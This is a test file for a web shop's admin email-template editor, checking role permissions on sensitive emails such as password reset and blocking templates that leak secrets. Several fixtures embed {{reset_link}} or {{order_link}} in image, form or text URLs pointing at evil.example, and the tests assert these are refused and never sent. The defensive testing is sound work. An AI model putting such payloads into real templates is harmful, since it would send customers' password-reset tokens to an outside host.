import { beforeEach, describe, expect, test } from 'bun:test'
import { eq } from 'drizzle-orm'
import type { RoleId } from '#db/schema/accounts.ts'
import { listAuditEntries } from '#src/accounts/audit/audit.ts'
import { saveLanguage } from '#src/i18n/languages.ts'
import { listAllLanguages } from '#src/i18n/list-languages.ts'
import { saveTranslation } from '#tests/support/translations.ts'
import { queueMail, getMail } from '#src/mail/outbox.ts'
import { listOutbox } from '#tests/support/outbox.ts'
import { sensitiveTemplates } from '#src/mail/templates/sensitive-templates.ts'
import type { MailSlug } from '#src/mail/templates/built-in-templates.ts'
import { listTemplateVersions, saveTemplateVersion } from '#src/mail/templates/template-versions.ts'
import { builtInText, getMailTemplate } from '#src/mail/templates/templates.ts'
import { saveSettings } from '#src/settings/settings.ts'
import '#tests/support/matchers.ts'
import { storeTest } from '#tests/support/store-test.ts'
import type { TestClient } from '#tests/support/test-client.ts'
import { createSignedInClient, createTestUser } from '#tests/support/users.ts'

const store = storeTest({ clients: { agent: 3, editor: 4, admin: 5 } })
const { shop, admin } = store
const path = '/admin/email-templates'

let german: number
beforeEach(async () => {
  await shop.db.transaction((tx) => saveLanguage(tx, { code: 'de', name: 'Deutsch' }))
  german = (await listAllLanguages(shop)).find(({ code }) => code === 'de')!.id
})

/** Its own text with another heading. */
async function saveText(slug: MailSlug, heading: string, language = 'en', roleId: RoleId = 5) {
  const { subject, body } = await builtInText(slug, language)
  const text = { slug, language, subject, body: `<h1>${heading}</h1>${body}` }
  return shop.db.transaction((tx) => saveTemplateVersion(tx, text, { editor: 'Ann', roleId, now: shop.now() }))
}

const bodies = async (slug: MailSlug) =>
  Promise.all(['en', 'de'].map(async (language) => (await getMailTemplate(shop.db.read, slug, [language])).body))

/** Every request that changes the text of a template. */
async function tryChanges(client: TestClient, slug: MailSlug): Promise<number[]> {
  const { subject, body } = await builtInText(slug, 'de')
  const [version] = (await listTemplateVersions(shop.db.read, { slug, language: 'en' })).slice(-1)
  const [entry] = await listAuditEntries(shop.db.read, { subject: `mail_template:${slug}` })
  const file = (key: string, text: string) => new File([`key,source,de\n${key},,"${text.replaceAll('"', '""')}"`], 'texts.csv')
  const text = { subject, preheader: '', body: `<h1>Stolen</h1>${body}` }
  const requests: [string, Parameters<TestClient['post']>[1]][] = [
    [`${path}/${slug}`, text],
    [`${path}/${slug}?language=de`, text],
    [`${path}/${slug}/reset?language=en`, {}],
    [`${path}/${slug}/en/versions/${version!.id}/restore`, {}],
    [`${path}/${slug}/undo?language=en`, { entry: String(entry?.id ?? 1) }],
    // At the address of another email.
    [`${path}/welcome/undo?language=en`, { entry: String(entry?.id ?? 1) }],
    [`/admin/languages/${german}/translations?part=mails`, { key: `mail.template.${slug}.subject`, text: `Stolen ${subject}`, was: '' }],
    [`/admin/languages/${german}/translations?part=mails`, { key: `mail.template.${slug}.body`, text: text.body, was: '' }],
    [`/admin/languages/${german}/files`, { file: file(`mail.template.${slug}.body`, text.body) }],
    ['/admin/admin/site-labels?lang=de', { key: `mail.template.${slug}.body`, text: text.body, was: '' }],
  ]
  const statuses: number[] = []
  for (const [address, body] of requests) statuses.push((await client.post(address, body)).status)
  return statuses
}

describe.each(['flat', 'least_privilege'] as const)('under %s rights', (preset) => {
  beforeEach(() => shop.db.transaction((tx) => saveSettings(tx, { staff_rights: preset }, 1)))

  test.each(['agent', 'editor'] as const)('no request of an %s changes the text of an email with a secret or a warning', async (role) => {
    for (const slug of [...sensitiveTemplates, 'staff_service_changed'] as const) {
      await saveText(slug, 'First')
      await saveText(slug, 'Second')
      const before = await bodies(slug)
      const statuses = await tryChanges(store[role], slug)
      expect({ slug, refused: statuses.every((status) => status >= 400) }).toEqual({ slug, refused: true })
      expect(await bodies(slug)).toEqual(before)
    }
  })

  test.each(['agent', 'editor'] as const)('an %s opens the page, with a sentence instead of controls', async (role) => {
    await saveText('reset_password', 'First')
    const page = await store[role].get(`${path}/reset_password`)
    expect(page).toShow('Only administrators can change its text.')
    expect(page.text).not.toContain('id="edit-form"')
    expect(page.text).not.toContain(`action="${path}/reset_password/reset`)
    expect((await store[role].get(`${path}/reset_password/en/versions`)).text).not.toContain('/restore"')
  })

  test('an editor saves other emails, also in translations', async () => {
    const { subject } = await builtInText('order_shipped', 'en')
    const body = '<p><a href="{{order_link}}">Order</a></p>'
    expect(await store.editor.post(`${path}/order_shipped`, { subject, preheader: '', body })).toHaveStatus(303)
    const translations = `/admin/languages/${german}/translations`
    expect(await store.editor.post(translations, { key: 'mail.template.welcome.subject', text: 'Hallo', was: '' })).toHaveStatus(303)
    const listed = await store.editor.get(`${translations}?part=mails&q=password`)
    expect(listed.text).not.toContain('mail.template.reset_password')
    expect(listed).toShow('Only administrators can change them.')
    const leak = '<p><img src="https://evil.example/{{order_link}}" alt=""></p>'
    expect(await store.editor.post(`${path}/order_shipped`, { subject, preheader: '', body: leak })).toHaveStatus(422)
    expect(await store.editor.post(translations, { key: 'mail.template.order_shipped.body', text: leak, was: '' })).toHaveStatus(422)
  })

  test('a file with secrets that are as they were is imported by an editor', async () => {
    const { subject } = await builtInText('user_invitation', 'de')
    const lines = [
      `mail.template.user_invitation.subject,,"${subject}"`,
      'mail.template.reset_password.subject,,',
      'mail.template.welcome.subject,,Hallo',
    ]
    const upload = (...more: string[]) =>
      store.editor.post(`/admin/languages/${german}/files`, { file: new File([['key,source,de', ...lines, ...more].join('\n')], 'f.csv') })
    expect(await upload()).toShow('1 text changes.')
    const refused = await upload('mail.template.set_password.subject,,Gestohlen')
    expect(refused).toHaveStatus(422)
    expect(refused).toShow('Your role cannot change this email.')
  })

  test('a file that an administrator checked is not applied by an editor', async () => {
    const { body } = await builtInText('user_invitation', 'de')
    const upload = new File([`key,source,de\nmail.template.user_invitation.body,,"${`<h1>X</h1>${body}`.replaceAll('"', '""')}"`], 'f.csv')
    const preview = await admin.post(`/admin/languages/${german}/files`, { file: upload })
    const [, action] = /<form class="button-row" method="post" action="([^"]+)"/.exec(preview.text)!
    const shown = await store.editor.get(action!)
    expect(shown.text).not.toContain(`action="${action}"`)
    expect(shown).toShow('Ask an administrator to import it.')
    expect(await store.editor.post(action!, {})).toHaveStatus(403)
    expect(await admin.post(action!, {})).toHaveStatus(303)
    expect((await bodies('user_invitation'))[1]).toContain('<h1>X</h1>')
  })
})

test('who is no administrator any more cannot undo an own change', async () => {
  const user = await createTestUser(shop, 5, 'former@example.com')
  const former = await createSignedInClient(store.app, shop, user)
  await saveText('reset_password', 'First')
  await former.post(`${path}/reset_password/reset`, {})
  const [entry] = await listAuditEntries(shop.db.read, { subject: 'mail_template:reset_password' })
  await shop.db.transaction((tx) => tx.update(tx.t.users).set({ roleId: 4 }).where(eq(tx.t.users.id, user.id)))
  expect(await former.post(`${path}/reset_password/undo`, { entry: String(entry!.id) })).toHaveStatus(403)
  expect(await former.post(`${path}/welcome/undo`, { entry: String(entry!.id) })).toHaveStatus(409)
  expect((await former.get(`${path}/reset_password?undo=${entry!.id}`)).text).not.toContain('id="undo-button"')
  expect((await bodies('reset_password'))[0]).not.toContain('First')
})

test('the command refuses a lesser role, whatever route calls it', async () => {
  await expect(saveText('two_factor_verification', 'X', 'en', 4)).rejects.toThrow('only administrators')
  await saveText('order_shipped', 'X', 'en', 4)
})

test('administrators cannot leak a secret either, and a version from before the rule is not restored', async () => {
  const { subject, body } = await builtInText('reset_password', 'en')
  const leak = `${body}<p><img src="https://evil.example/{{reset_link}}" alt=""></p>`
  const refused = await admin.post(`${path}/reset_password`, { subject, preheader: '', body: leak })
  expect(refused).toHaveStatus(422)
  expect(refused).toShow('Put {{reset_link}} between spaces')
  const { emailTemplateVersions } = shop.db.t
  const [row] = await shop.db.transaction((tx) =>
    tx
      .insert(emailTemplateVersions)
      .values({ slug: 'reset_password', language: 'en', subject, preheader: '', body: leak, editor: 'Eve', createdAt: 1 })
      .returning({ id: emailTemplateVersions.id }),
  )
  expect(await admin.post(`${path}/reset_password/en/versions/${row!.id}/restore`, {})).toHaveStatus(422)
  expect((await bodies('reset_password'))[0]).toBe(body)
})

describe('a stored text that leaks a secret', () => {
  const send = () =>
    shop.db.transaction((tx) =>
      queueMail(shop, tx, {
        template: 'reset_password',
        to: 'admin@example.com',
        params: { customer_name: 'Ann', reset_link: 'https://shop.example/reset-password/token', expires_in_minutes: '60' },
      }),
    )
  const sentHtml = async () => (await getMail(shop.db.read, (await listOutbox(shop.db.read))[0]!.id)).html

  async function storeBody(body: string) {
    const { emailTemplates } = shop.db.t
    await saveText('reset_password', 'First')
    await shop.db.transaction((tx) => tx.update(emailTemplates).set({ body }).where(eq(emailTemplates.slug, 'reset_password')))
  }
  const link = '<a href="{{reset_link}}">x</a>'

  test.each([
    ['an image', `${link}<img src="https://evil.example/{{reset_link}}" alt="">`],
    ['markup that emails cannot have', `${link}<form action="https://evil.example/{{reset_link}}"></form>`],
    ['text', `${link}<p>https://evil.example/?{{reset_link}}</p>`],
  ])('in %s is not sent, and staff see it', async (_name, body) => {
    await storeBody(body)
    await send()
    expect(await sentHtml()).not.toContain('evil.example')
    expect(await sentHtml()).toContain('href="https://shop.example/reset-password/token"')
    const list = await admin.get(path)
    expect(list).toShow('Broken in en: the built-in text is sent')
    expect(list).toShow('Some of your texts break the rules')
    expect(await admin.get(`${path}/reset_password`)).toShow('Put {{reset_link}} between spaces')
  })

  test('as a translation of an earlier release is not sent either, and goes with a reset', async () => {
    const key = 'mail.template.reset_password.body'
    await shop.db.transaction((tx) =>
      saveTranslation(tx, { language: 'en', key, text: `${link}<img src="//evil.example/{{reset_link}}">`, now: 1 }),
    )
    await send()
    expect(await sentHtml()).not.toContain('evil.example')
    expect(await admin.get(path)).toShow('Broken in en: the built-in text is sent')
    expect(await admin.post(`${path}/reset_password/reset`, {})).toHaveStatus(303)
    expect((await admin.get(path)).text).not.toContain('Broken in en')
  })
})
